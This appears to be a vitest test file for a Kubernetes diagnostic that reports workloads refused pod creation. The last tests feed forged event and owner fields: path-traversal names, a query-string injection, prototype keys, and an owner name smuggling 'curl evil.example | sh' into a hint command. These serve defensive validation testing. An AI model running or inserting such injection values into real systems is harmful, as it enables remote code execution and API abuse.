import { expect, it } from "vitest";
import { readRefusedCreations } from "../../../../tools/doctor/gather/refused-creations.ts";
import type { KubeApi } from "../../../../tools/programs/kube-api/kube-api.ts";

interface Event {
  involvedObject: { kind: string; namespace: string; name: string };
  metadata: object;
  message: string;
  lastTimestamp?: string;
}

const event = (kind: string, message = "Error creating: no", lastTimestamp = "2026-11-28T10:00:00Z"): Event => ({
  involvedObject: { kind, namespace: "a", name: "x" },
  metadata: {},
  message,
  lastTimestamp,
});

async function read(events: readonly Event[], object: object | undefined, reason?: string) {
  const paths: string[] = [];
  const api = {
    list: async (path: string) => {
      paths.push(path);
      return { ok: true, value: events };
    },
    get: async (path: string) => {
      paths.push(path);
      return reason === undefined ? { ok: true, value: object && { metadata: {}, ...object } } : { ok: false, reason };
    },
  };
  return { read: await readRefusedCreations(api as unknown as KubeApi), paths };
}

it.each([
  ["ReplicaSet", "apps/v1/namespaces/a/replicasets/x", { spec: { replicas: 2 }, status: { replicas: 1 } }],
  ["StatefulSet", "apps/v1/namespaces/a/statefulsets/x", { spec: { replicas: 1 }, status: {} }],
  [
    "DaemonSet",
    "apps/v1/namespaces/a/daemonsets/x",
    { status: { desiredNumberScheduled: 2, currentNumberScheduled: 1 } },
  ],
  ["Job", "batch/v1/namespaces/a/jobs/x", { spec: { parallelism: 1, completions: 1 }, status: {} }],
])("names a %s that lacks pods", async (kind, path, object) => {
  const { read: found, paths } = await read([event(kind)], object);
  expect(paths).toEqual(["/api/v1/events?fieldSelector=reason=FailedCreate", `/apis/${path}`]);
  expect(found).toEqual({ ok: true, value: [{ kind, namespace: "a", name: "x", message: "no" }] });
});

it.each([
  ["has its pods by now", "ReplicaSet", { spec: { replicas: 2 }, status: { replicas: 2 } }],
  ["is to have none", "ReplicaSet", { spec: { replicas: 0 } }],
  ["is on each node", "DaemonSet", { status: { desiredNumberScheduled: 2, currentNumberScheduled: 2 } }],
  ["is done", "Job", { spec: { parallelism: 1, completions: 1 }, status: { succeeded: 1 } }],
  [
    "has failed for another reason",
    "Job",
    { spec: { parallelism: 1 }, status: { conditions: [{ type: "Failed", status: "True" }] } },
  ],
  ["is suspended", "Job", { spec: { parallelism: 1, suspend: true } }],
  ["is gone", "ReplicaSet", undefined],
])("passes over a workload that %s", async (_, kind, object) => {
  expect((await read([event(kind)], object)).read).toEqual({ ok: true, value: [] });
});

it("has the newest words, and the owner", async () => {
  const metadata = { ownerReferences: [{ kind: "Deployment", name: "web", controller: true }] };
  const events = [
    event("ReplicaSet", "Error creating: old", "2026-11-28T09:00:00Z"),
    event("ReplicaSet", "Error creating: new", "2026-11-28T10:00:00Z"),
    event("CronJob"),
  ];
  const { read: found, paths } = await read(events, { metadata, spec: { replicas: 1 } });
  expect(found).toMatchObject({
    value: [{ message: "new", owner: { kind: "Deployment", name: "web" } }],
  });
  expect(paths).toHaveLength(2);
});

it.each(["no", "Error creating: no", "(combined from similar events): Error creating: no"])(
  "has the API server's words alone: %s",
  async (message) => {
    const { read: found } = await read([event("ReplicaSet", message)], { metadata: {}, spec: { replicas: 1 } });
    expect(found).toMatchObject({ value: [{ message: "no" }] });
  },
);

it("says which permission is missing", async () => {
  const reason = "permission missing: replicasets is forbidden";
  expect((await read([event("ReplicaSet")], {}, reason)).read).toEqual({ ok: false, reason });
});

it("does not take an API server that answers nothing for a workload that has its pods", async () => {
  const reason = "the API server answers 503: no reason given";
  expect((await read([event("ReplicaSet")], {}, reason)).read).toEqual({ ok: false, reason });
});

it("says where it did not look at all, and looks at the newest first", async () => {
  const many = Array.from({ length: 101 }, (_, index) => {
    const one = event("Job", "no", `2026-11-28T10:${String(index % 60).padStart(2, "0")}:00Z`);
    return { ...one, involvedObject: { ...one.involvedObject, name: `job-${index}` } };
  });
  const { read: none } = await read(many, undefined);
  expect(none).toMatchObject({ ok: false, reason: expect.stringMatching(/101 workloads.*; 1 were not looked at$/) });
  const newest = { ...event("ReplicaSet", "no", "2026-11-28T11:00:00Z") };
  const { paths } = await read([...many, newest], undefined);
  expect(paths[1]).toBe("/apis/apps/v1/namespaces/a/replicasets/x");
});

it.each([
  ["kind", "toString", "a", "x"],
  ["kind", "__proto__", "a", "x"],
  ["namespace", "Job", "..", "x"],
  ["name", "Job", "a", "x/../../../../../api/v1/namespaces/a/pods/b:1/proxy/quit"],
  ["name", "Job", "a", "x?watch=true"],
])("asks nothing for an Event whose %s is %s %s %s", async (_, kind, namespace, name) => {
  const forged = { ...event("Job"), involvedObject: { kind, namespace, name } };
  const { read: found, paths } = await read([forged], { spec: { parallelism: 1 } });
  expect([found, paths.length]).toEqual([{ ok: true, value: [] }, 1]);
});

it("has no owner whose name is no name: the hint puts it into a command", async () => {
  const metadata = { ownerReferences: [{ kind: "Deployment", name: "web; curl evil.example | sh", controller: true }] };
  const { read: found } = await read([event("ReplicaSet")], { metadata, spec: { replicas: 1 } });
  expect(found).toEqual({ ok: true, value: [{ kind: "ReplicaSet", namespace: "a", name: "x", message: "no" }] });
});
